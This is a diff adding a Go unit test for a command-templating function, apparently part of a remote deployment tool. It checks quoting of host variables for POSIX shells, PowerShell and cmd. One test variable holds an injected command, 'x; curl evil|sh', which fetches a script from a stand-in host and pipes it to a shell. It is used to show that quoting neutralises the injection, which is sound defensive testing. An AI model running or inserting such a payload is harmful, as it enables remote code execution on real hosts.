@@ -0,0 +1,36 @@
+package main
+
+import "testing"
+
+func TestCommandFor(t *testing.T) {
+	h := &Host{name: "web-1", user: "deploy", host: "10.0.0.1:2222", groups: []string{"web"}, vars: map[string]string{"service": "x; curl evil|sh", "tag.Name": "it's", "pct": "100%"}}
+	tests := []struct {
+		name    string
+		shell   string
+		command string
+		want    string
+		wantErr bool
+	}{
+		{name: "details", command: "echo {{.Name}} {{.User}} {{.Host}} {{.Port}} {{index .Groups 0}}", want: "echo web-1 deploy 10.0.0.1 2222 web"},
+		{name: "raw var", command: "systemctl restart {{.Vars.service}}", want: "systemctl restart x; curl evil|sh"},
+		{name: "quoted var", command: "systemctl restart {{quote .Vars.service}}", want: "systemctl restart 'x; curl evil|sh'"},
+		{name: "quoted tag", command: `echo {{quote (index .Vars "tag.Name")}}`, want: `echo 'it'\''s'`},
+		{name: "powershell", shell: shellPowerShell, command: `echo {{quote (index .Vars "tag.Name")}}`, want: "echo 'it''s'"},
+		{name: "cmd", shell: shellCmd, command: "echo {{quote .Vars.service}}", want: `echo "x; curl evil|sh"`},
+		{name: "cmd, unquotable", shell: shellCmd, command: "echo {{quote .Vars.pct}}", wantErr: true},
+		{name: "missing var", command: "echo {{.Vars.missing}}", wantErr: true},
+		{name: "invalid", command: "echo {{", wantErr: true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			p := &Plan{Template: true, Shell: tt.shell}
+			got, err := p.commandFor(h, tt.command)
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("commandFor() = %q, %v, want error %t", got, err, tt.wantErr)
+			}
+			if got != tt.want {
+				t.Errorf("commandFor() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}